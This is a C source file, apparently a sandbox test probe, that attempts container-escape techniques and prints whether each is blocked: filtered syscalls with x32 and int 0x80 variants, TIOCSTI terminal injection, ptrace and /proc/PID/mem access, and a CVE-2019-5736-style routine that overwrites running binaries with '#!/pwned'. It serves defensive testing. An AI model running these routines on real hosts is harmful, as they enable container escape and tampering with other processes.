/* SPDX-License-Identifier: Apache-2.0 */
/* What a hostile program in a container tries; static, so that it runs in any image.  Each attempt
 * prints one line: what it was, and "open" when it went through or the reason why not. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include "src/util/scoped.h"

static void tell(const char *what, long r)
{
	(void)printf("%s: %s\n", what, r >= 0 ? "open" : strerror(errno));
	(void)fflush(stdout);
}

/* ---- system calls ---------------------------------------------------------------------------- */

/* Ends a sequence by reporting how many of the calls were let through by the filter.  ENOSYS and
 * EPERM are its answers; a call with silly arguments gives EFAULT, EINVAL or EBADF when it is let
 * through. */
static int calls(void)
{
#ifdef __x86_64__
	static const struct {
		const char *name;
		long nr;
	} list[] = {
		{ "kexec_load", SYS_kexec_load },
		{ "kexec_file_load", SYS_kexec_file_load },
		{ "init_module", SYS_init_module },
		{ "finit_module", SYS_finit_module },
		{ "delete_module", SYS_delete_module },
		{ "swapon", SYS_swapon },
		{ "swapoff", SYS_swapoff },
		{ "acct", SYS_acct },
		{ "bpf", SYS_bpf },
		{ "perf_event_open", SYS_perf_event_open },
		{ "userfaultfd", SYS_userfaultfd },
		{ "open_by_handle_at", SYS_open_by_handle_at },
		{ "settimeofday", SYS_settimeofday },
		{ "clock_settime", SYS_clock_settime },
		{ "iopl", SYS_iopl },
		{ "ioperm", SYS_ioperm },
		{ "move_pages", SYS_move_pages },
		{ "migrate_pages", SYS_migrate_pages },
		{ "vmsplice", SYS_vmsplice },
		{ "quotactl", SYS_quotactl },
		{ "fanotify_init", SYS_fanotify_init },
		{ "kcmp", SYS_kcmp },
		{ "sysfs", SYS_sysfs },
		{ "ustat", SYS_ustat },
		{ "uselib", SYS_uselib },
		{ "vhangup", SYS_vhangup },
		{ "nfsservctl", SYS_nfsservctl },
		{ "io_uring_setup", SYS_io_uring_setup },
	};
	for (size_t i = 0; i < ARRAY_LEN(list); i++) {
		for (int x32 = 0; x32 < 2; x32++) {
			long r = syscall(list[i].nr | (x32 ? 0x40000000 : 0), -1, -1, -1, -1, -1,
					 -1);
			if (r >= 0 || (errno != ENOSYS && errno != EPERM))
				(void)printf("%s%s: let through (%s)\n", list[i].name,
					     x32 ? " (x32)" : "",
					     r >= 0 ? "success" : strerror(errno));
		}
	}
	/* int 0x80: perf_event_open is 336, swapon 87. */
	for (int i = 0; i < 2; i++) {
		int nr = i ? 336 : 87, r;
		__asm__ volatile("int $0x80"
				 : "=a"(r)
				 : "a"(nr), "b"(-1), "c"(-1), "d"(-1)
				 : "memory", "cc");
		if (r != -ENOSYS && r != -EPERM)
			(void)printf("i386 call %d: let through (%d)\n", nr, r);
	}
#endif
	(void)printf("done\n");
	return 0;
}

static int sockets(void)
{
	static const unsigned long high[] = { 0, 1UL << 32, 0xffffffffUL << 32,
					      0xdeadbeefUL << 32 };
	for (size_t i = 0; i < ARRAY_LEN(high); i++) {
		long alg = syscall(SYS_socket, high[i] | AF_ALG, SOCK_SEQPACKET, 0);
		long vsock = syscall(SYS_socket, high[i] | AF_VSOCK, SOCK_STREAM, 0);
		long audit = syscall(SYS_socket, high[i] | AF_NETLINK, SOCK_RAW, high[i] | 9);
		long inet = syscall(SYS_socket, high[i] | AF_INET, SOCK_STREAM, 0);
		if (alg >= 0 || vsock >= 0 || audit >= 0)
			(void)printf("high bits %lx: alg %ld vsock %ld audit %ld\n", high[i], alg,
				     vsock, audit);
		if (inet < 0)
			(void)printf("high bits %lx: no Internet socket: %s\n", high[i],
				     strerror(errno));
	}
	(void)printf("done\n");
	return 0;
}

/* ---- terminals and keys ---------------------------------------------------------------------- */

static int push(const char *what, int fd)
{
	char c = 'X';
	/* The kernel looks at 32 bits of the request. */
	tell(what, fd < 0 ? -1 : ioctl(fd, TIOCSTI, &c));
	return syscall(SYS_ioctl, fd, 0xdead00000000UL | TIOCSTI, &c) >= 0;
}

static int terminal(void)
{
	struct stat st;
	int fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);

	for (int i = 0; i < 3; i++)
		if (fstat(i, &st) == 0)
			(void)printf("fd %d: %lx:%lx %lx\n", i, (unsigned long)st.st_dev,
				     (unsigned long)st.st_ino, (unsigned long)st.st_rdev);
	if (fd >= 0 && fstat(fd, &st) == 0)
		(void)printf("tty: %lx:%lx %lx\n", (unsigned long)st.st_dev,
			     (unsigned long)st.st_ino, (unsigned long)st.st_rdev);
	(void)push("TIOCSTI on stdin", 0);
	(void)push("TIOCSTI on stdout", 1);
	(void)push("TIOCSTI on stderr", 2);
	(void)push("TIOCSTI on /dev/tty", fd);
	return 0;
}

/* Run a command in a session keyring that has a key. */
static int with_key(char **argv)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
	    syscall(SYS_add_key, "user", "cove-canary", "secret", 6, KEY_SPEC_SESSION_KEYRING) <
		    0) {
		perror("add_key");
		return 77;
	}
	(void)execvp(argv[0], argv);
	return 127;
}

static int find_key(void)
{
	tell("key in the session keyring",
	     syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "cove-canary",
		     0));
	tell("key by request", syscall(SYS_request_key, "user", "cove-canary", NULL, 0));
	return 0;
}

/* ---- other processes ------------------------------------------------------------------------- */

static int open_of(const char *pid, const char *name, int flags)
{
	char path[320];
	(void)snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	return open(path, flags | O_CLOEXEC);
}

static int attack(const char *pid)
{
	static const struct {
		const char *name;
		int flags;
	} files[] = { { "mem", O_RDWR },      { "root/etc/hostname", O_RDONLY },
		      { "cwd/.", O_RDONLY },  { "environ", O_RDONLY },
		      { "exe", O_RDONLY },    { "fd/0", O_RDONLY },
		      { "ns/mnt", O_RDONLY }, { "ns/user", O_RDONLY } };
	pid_t n = (pid_t)strtol(pid, NULL, 10);
	long r = ptrace(PTRACE_SEIZE, n, NULL, NULL);

	tell("ptrace", r);
	if (r >= 0)
		(void)ptrace(PTRACE_DETACH, n, NULL, NULL);
	for (size_t i = 0; i < ARRAY_LEN(files); i++) {
		int fd = open_of(pid, files[i].name, files[i].flags);
		char byte;
		/* environ opens for everybody and gives nothing. */
		if (fd >= 0 && strcmp(files[i].name, "environ") == 0 && read(fd, &byte, 1) <= 0) {
			errno = EACCES;
			fd_close(take_fd(&fd));
			fd = -1;
		}
		tell(files[i].name, fd);
		fd_close(fd);
	}
	return 0;
}

/* ---- our own program (CVE-2019-5736) --------------------------------------------------------- */

/* For SECONDS: whatever process appears, keep a descriptor of its program and try to write to it
 * once it has ended.  Prints each program that could be written. */
static int overwrite(const char *seconds)
{
	time_t end = time(NULL) + strtol(seconds, NULL, 10);
	int held[256], n = 0, own = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	struct stat mine, st;

	if (own < 0 || fstat(own, &mine) < 0)
		return 1;
	(void)printf("ready\n");
	(void)fflush(stdout);
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		for (struct dirent *de; d && (de = readdir(d));) {
			int fd = -1, known = 0;
			if (de->d_name[0] >= '0' && de->d_name[0] <= '9')
				fd = open_of(de->d_name, "exe", O_RDONLY);
			if (fd < 0 || fstat(fd, &st) < 0)
				continue;
			for (int i = 0; i < n && !known; i++) {
				struct stat other;
				known = fstat(held[i], &other) == 0 && other.st_dev == st.st_dev &&
					other.st_ino == st.st_ino;
			}
			if (known || n == 256 ||
			    (st.st_dev == mine.st_dev && st.st_ino == mine.st_ino)) {
				fd_close(fd);
				continue;
			}
			held[n++] = fd;
		}
		dir_close(d);
		for (int i = 0; i < n; i++) {
			char path[64], target[256];
			ssize_t len;
			int w;
			(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
			len = readlink(path, target, sizeof(target) - 1);
			target[len > 0 ? len : 0] = '\0';
			if (strstr(target, "busybox"))
				continue;
			w = open(path, O_WRONLY | O_CLOEXEC);
			if (w >= 0 && pwrite(w, "#!/pwned\n", 9, 0) == 9) {
				(void)printf("wrote %s\n", target);
				(void)fflush(stdout);
			}
			fd_close(w);
		}
	}
	for (int i = 0; i < n; i++) {
		char path[64], target[256];
		ssize_t len;
		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		len = readlink(path, target, sizeof(target) - 1);
		target[len > 0 ? len : 0] = '\0';
		(void)printf("saw %s\n", target);
	}
	return 0;
}

/* Exchange two names as fast as it goes. */
static int swap(const char *a, const char *b, const char *seconds)
{
	time_t end = time(NULL) + strtol(seconds, NULL, 10);
	while (time(NULL) < end)
		for (int i = 0; i < 1000; i++)
			if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
				return 1;
	return 0;
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	if (strcmp(verb, "calls") == 0)
		return calls();
	if (strcmp(verb, "sockets") == 0)
		return sockets();
	if (strcmp(verb, "terminal") == 0)
		return terminal();
	if (strcmp(verb, "find-key") == 0)
		return find_key();
	if (strcmp(verb, "with-key") == 0 && argc > 2)
		return with_key(argv + 2);
	if (strcmp(verb, "attack") == 0 && argc > 2)
		return attack(argv[2]);
	if (strcmp(verb, "overwrite") == 0 && argc > 2)
		return overwrite(argv[2]);
	if (strcmp(verb, "swap") == 0 && argc > 4)
		return swap(argv[2], argv[3], argv[4]);
	(void)fprintf(stderr, "usage: probe calls|sockets|terminal|find-key|with-key CMD|attack "
			      "PID|overwrite SECONDS\n");
	return 2;
}
